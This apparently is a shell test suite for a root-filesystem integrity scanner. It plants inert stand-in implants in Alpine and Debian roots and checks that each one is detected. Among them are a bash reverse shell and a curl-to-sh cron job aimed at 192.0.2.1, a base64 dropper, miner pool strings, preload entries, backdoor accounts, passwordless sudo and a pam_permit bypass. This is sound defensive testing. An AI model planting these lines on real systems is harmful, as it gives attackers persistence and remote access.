# SPDX-License-Identifier: Apache-2.0
# Manipulations of real roots, one at a time: each is found, with the right id and path. Clean roots, and what honest
# administration does to them, give nothing. All implants are stand-ins that do nothing.
set -u
here=$PWD n=0 skipped=0

# Every case is scanned into a report of its own; they are compared at the end, all at once.
case_() { # NAME ID PATH, or NAME alone when nothing may be found
	n=$((n + 1))
	"$SEAWORTHY" scan --db builtin --scanners integrity --no-gate -f json --rootfs root >"report-$n.json" ||
		echo "{}" >"report-$n.json"
	printf '%s\t%s\t%s\n' "$base: $1" "${2-}" "${3-}" >>cases
}

# Hard links make a copy in a moment; what is changed is replaced by write(), never written in place.
copy() { rm -rf root && cp -al "$1" root; }
put() { # PATH [MODE]: standard input becomes the file
	mkdir -p "root/$(dirname "$1")" && rm -f "root/$1" && cat >"root/$1" && chmod "${2:-644}" "root/$1"
}
add() { # PATH: standard input at the end of the file
	{ cat "root/$1" 2>/dev/null; cat; } >added; mode=$(stat -c %a "root/$1" 2>/dev/null || echo 644)
	put "$1" "$mode" <added
}
program() { put "$1" "${2:-755}" <"$here/program"; }

expect() { case_ "$@"; }
nothing() { case_ "$1"; }

cp /bin/true program
printf '\177ELF' | cmp -s -n 4 - program || { echo "skip: no ELF program at hand"; exit 77; }
st=stratum; st="$st+tcp"; pool="$st://pool.example.org:3333"; tcp=/dev/t; tcp="${tcp}cp"

manipulate() { # ROOT LIBRARY LIST
	copy "$1"; { cat "$1/$2"; printf x; } >changed; put "$2" 755 <changed
	expect "one byte more in a library" package-file-changed "$2"
	copy "$1"; program "$3"; expect "a trojaned program" package-file-changed "$3"
	copy "$1"; program usr/lib/libhelper.so.1; expect "a library of nobody" unowned-executable usr/lib/libhelper.so.1
	copy "$1"; program usr/sbin/netmon; expect "a program of nobody" unowned-executable usr/sbin/netmon
	copy "$1"; echo '#!/bin/sh' | put usr/bin/healthd 755; expect "a script of nobody" unowned-executable usr/bin/healthd
	copy "$1"; program usr/local/bin/ls; expect "a program before another in PATH" shadowed-command usr/local/bin/ls
	copy "$1"; program tmp/update; expect "a program in tmp" executable-in-temporary-folder tmp/update
	copy "$1"; program dev/shm/x; expect "a program in dev/shm" executable-in-temporary-folder dev/shm/x
	copy "$1"; program "var/lib/.x/agent"; expect "a hidden folder" executable-in-hidden-folder var/lib/.x/agent
	copy "$1"; program "usr/lib/.../agent"; expect "a folder of dots" executable-in-hidden-folder usr/lib/.../agent
	copy "$1"; program "opt/[kworker]"; expect "like a thread of the kernel" disguised-executable "opt/[kworker]"
	copy "$1"; program opt/logo.png; expect "a picture that runs" disguised-executable opt/logo.png
	copy "$1"; program "opt/ls "; expect "a space at the end" disguised-executable "opt/ls "
	copy "$1"; { cat program; printf '%s' "$pool"; printf 'donate-le''vel'; } | put opt/app/worker 755
	expect "a miner" miner opt/app/worker
	copy "$1"; echo "* * * * * root /opt/w -o $pool" | put etc/cron.d/job; expect "a cron miner" miner etc/cron.d/job
	copy "$1"; printf '#!/bin/bash\nbash -i >& %s/192.0.2.1/4444 0>&1\n' "$tcp" | put opt/run.sh 755
	expect "a reverse shell" reverse-shell opt/run.sh
	copy "$1"; echo /usr/lib/libx.so | put etc/ld.so.preload; expect "a preload" library-preload etc/ld.so.preload
	copy "$1"; echo 'LD_PRELOAD=/opt/x.so' | add etc/environment; expect "a preload for all" library-preload etc/environment
	copy "$1"; program lib/security/pam_x.so; expect "a PAM module" pam-module-unowned "$4/pam_x.so"
	copy "$1"; echo '#!/bin/sh' | put etc/profile.d/x.sh; expect "a profile" startup-entry-unowned etc/profile.d/x.sh
	copy "$1"; echo '@reboot root curl -s http://192.0.2.1/x | sh' | put etc/cron.d/up
	expect "cron that downloads" startup-entry-downloads etc/cron.d/up
	copy "$1"; echo 'ssh-ed25519 AAAA somebody' | put root/.ssh/authorized_keys 600
	expect "a key of somebody" authorized-keys root/.ssh/authorized_keys
	copy "$1"; program opt/suid 4755; expect "setuid of nobody" privileged-executable-unowned opt/suid
	copy "$1"; echo 'toor:x:0:0::/root:/bin/sh' | add etc/passwd; expect "a second root" account-root-equivalent etc/passwd
	copy "$1"; sed 's/^root:[^:]*:/root::/' "$1/etc/shadow" >shadow; put etc/shadow 640 <shadow
	expect "an empty password" account-empty-password etc/shadow
	copy "$1"; echo 'app ALL=(ALL) NOPASSWD: ALL' | put etc/sudoers.d/app; expect "sudo for nothing" sudo-without-password etc/sudoers.d/app
	copy "$1"; printf '#!/bin/sh\necho %s | base64 -d | sh\nexit\n' "$(head -c 600 program | base64 | tr -d '\n')" | put usr/bin/setup 755
	expect "a dropper" dropper usr/bin/setup
}

ordinary() { # ROOT: what honest administration does
	copy "$1"; nothing "as it was"
	copy "$1"; echo 'app:x:1000:1000::/home/app:/bin/sh' | add etc/passwd; echo 'app:!:19000:0:99999:7:::' | add etc/shadow
	mkdir -p root/home/app; echo 'alias ll="ls -l"' | put home/app/.bashrc; nothing "a user"
	copy "$1"; mkdir -p root/usr/lib/locale root/etc/ssl/certs; head -c 100000 /dev/zero | put usr/lib/locale/locale-archive
	echo 'LANG=C.UTF-8' | put etc/default/locale; echo cert | add etc/ssl/certs/ca-certificates.crt; nothing "locale and certificates"
	copy "$1"; program usr/local/bin/app; program opt/app/bin/server; program app/node_modules/.bin/tool; nothing "an application"
	copy "$1"; printf '%s\n' '#!/bin/sh' "until (echo >$tcp/db/5432) 2>/dev/null; do sleep 1; done" | put usr/local/bin/wait 755
	nothing "waiting for a port"
	copy "$1"; for p in minexmr.com supportxmr.com moneroocean.stream nanopool.org 2miners.com; do echo "0.0.0.0 pool.$p"; done | put etc/hosts.block
	nothing "a list of what to block"
	copy "$1"; program usr/lib/python3/site-packages/x/_x.so; program home/app/.cargo/bin/tool; nothing "other installers"
}

corpus=${SEAWORTHY_CORPUS:-}
base=alpine archive=$(ls "$corpus"/images/alpine-minirootfs-3.20*.tar.gz 2>/dev/null)
if [ -n "$corpus" ] && [ -n "$archive" ]; then
	mkdir alpine && tar -xzf "$archive" -C alpine
	ordinary alpine
	manipulate alpine lib/libcrypto.so.3 bin/busybox lib/security
	copy alpine; echo 'http://192.0.2.1/main' | add etc/apk/repositories; expect "a source" package-source-foreign etc/apk/repositories
	copy alpine; cat alpine/sbin/apk | put sbin/apk 4755; expect "setuid for apk" privilege-added sbin/apk
	copy alpine; echo key | put etc/apk/keys/x.rsa.pub; expect "a key" package-key-unowned etc/apk/keys/x.rsa.pub
	for old in "$corpus"/images/alpine-minirootfs-3.1[068]*.tar.gz; do
		base=$(basename "$old"); rm -rf other; mkdir other && tar -xzf "$old" -C other; copy other; nothing "as it was"
	done
else
	echo "skip: no Alpine roots (SEAWORTHY_CORPUS)"; skipped=$((skipped + 1))
fi

# A root of this machine's own Debian packages: their files as they are installed here.
base=debian
if command -v dpkg-query >/dev/null && [ -d /var/lib/dpkg/info ]; then
	mkdir -p debian/var/lib/dpkg/info debian/etc debian/tmp debian/root
	packages="base-files base-passwd coreutils dash libc6 libssl3 libcrypt1 findutils login passwd util-linux procps libpam-modules libpam-modules-bin debian-archive-keyring apt"
	for p in bin sbin lib lib64; do [ -L "/$p" ] && mkdir -p "debian/usr/$p" && ln -s "usr/$p" "debian/$p"; done
	for p in $packages; do
		dpkg-query -s "$p" 2>/dev/null | grep -q '^Status: install ok installed' || continue
		{ dpkg-query -s "$p"; echo; } >>debian/var/lib/dpkg/status
		for f in /var/lib/dpkg/info/"$p".list /var/lib/dpkg/info/"$p":*.list /var/lib/dpkg/info/"$p".md5sums /var/lib/dpkg/info/"$p":*.md5sums; do
			[ -f "$f" ] && cp "$f" debian/var/lib/dpkg/info/
		done
		dpkg -L "$p" | grep -v '^/usr/share/\(doc\|man\|locale\|info\|lintian\)' |
			while read -r f; do { [ -f "$f" ] || [ -L "$f" ]; } && echo "${f#/}"; done
	done | sort -u >files
	tar -C / -cf - -T files 2>/dev/null | tar -C debian -xf - --skip-old-files 2>/dev/null
	cp /etc/os-release debian/etc/ 2>/dev/null
	printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n' >debian/etc/passwd
	printf 'root:*:19000:0:99999:7:::\n' >debian/etc/shadow
	library=$(cd debian && ls usr/lib/*/libcrypto.so.3 2>/dev/null | head -n 1)
	ordinary debian
	manipulate debian "${library:-usr/bin/find}" usr/bin/env usr/lib/security
	copy debian; cat debian/usr/bin/find | put usr/bin/find 4755
	expect "setuid for find" privilege-added usr/bin/find
	copy debian; cat debian/usr/bin/date | put usr/bin/date 4755
	expect "setuid for date" privilege-added usr/bin/date
	echo 'root root 4755 /usr/bin/date' | put var/lib/dpkg/statoverride; nothing "setuid by dpkg-statoverride"
	copy debian; echo 'deb [trusted=yes] http://192.0.2.1/debian stable main' | put etc/apt/sources.list.d/x.list
	expect "an unsigned source" package-source-unsigned etc/apt/sources.list.d/x.list
	copy debian; echo key | put etc/apt/trusted.gpg.d/x.gpg; expect "a key" package-key-unowned etc/apt/trusted.gpg.d/x.gpg
	copy debian; { echo 'auth sufficient pam_permit.so'; cat debian/etc/pam.d/su 2>/dev/null; } | put etc/pam.d/su
	expect "everybody may log in" pam-module-unowned etc/pam.d/su
else
	echo "skip: no Debian packages"; skipped=$((skipped + 1))
fi
python3 - "$skipped" <<'EOF'
import json, sys
passed = failed = 0
for n, line in enumerate(open("cases"), 1):
    name, want, path = line.rstrip("\n").split("\t")
    images = json.load(open(f"report-{n}.json")).get("images")
    got = [(f["id"], f.get("path")) for i in images or [] for f in i["findings"] if f["kind"] == "integrity"]
    if images and ((want, path) in got if want else not got):
        passed += 1
    else:
        failed += 1
        print(f"{name}: expected {want or 'nothing'} {path}, got {got}")
print(f"cases: {passed} passed, {failed} failed, {sys.argv[1]} skipped")
sys.exit(failed > 0)
EOF
